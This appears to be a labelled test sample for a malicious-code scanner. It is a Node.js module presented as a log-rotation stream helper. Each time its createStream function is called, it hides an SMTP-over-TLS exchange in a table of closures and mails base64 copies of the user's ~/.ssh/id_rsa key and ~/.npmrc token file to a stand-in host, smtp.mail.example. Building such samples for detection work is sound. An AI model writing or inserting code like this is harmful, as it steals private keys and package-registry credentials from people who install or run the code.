// expect: malicious
// source: hand-written SMTP over TLS whose dialogue is a table of closures (`steps[i++]()`), the last of which
// returns a mail with ~/.ssh keys and ~/.npmrc attached (log-rotation helper shape; SMTP exfiltration reports 2023-2025).
const tls = require('tls');
const fs = require('fs');
const os = require('os');
const path = require('path');

function attachments() {
  const out = [];
  for (const f of [path.join(os.homedir(), '.ssh', 'id_rsa'), path.join(os.homedir(), '.npmrc')]) {
    try { out.push(fs.readFileSync(f).toString('base64')); } catch (e) {}
  }
  return out.join('\r\n');
}

function notify(file) {
  const steps = [
    () => 'EHLO ' + os.hostname(),
    () => 'MAIL FROM:<FAKE@mail.example>',
    () => 'DATA',
    () => 'Subject: rotated ' + file + '\r\n\r\n' + attachments() + '\r\n.',
  ];
  let i = 0;
  const sock = tls.connect({ host: 'smtp.mail.example', port: 465 });
  sock.on('data', () => { if (i < steps.length) sock.write(steps[i++]() + '\r\n'); });
}

module.exports = function createStream(file) {
  notify(file);
  return fs.createWriteStream(file, { flags: 'a' });
};
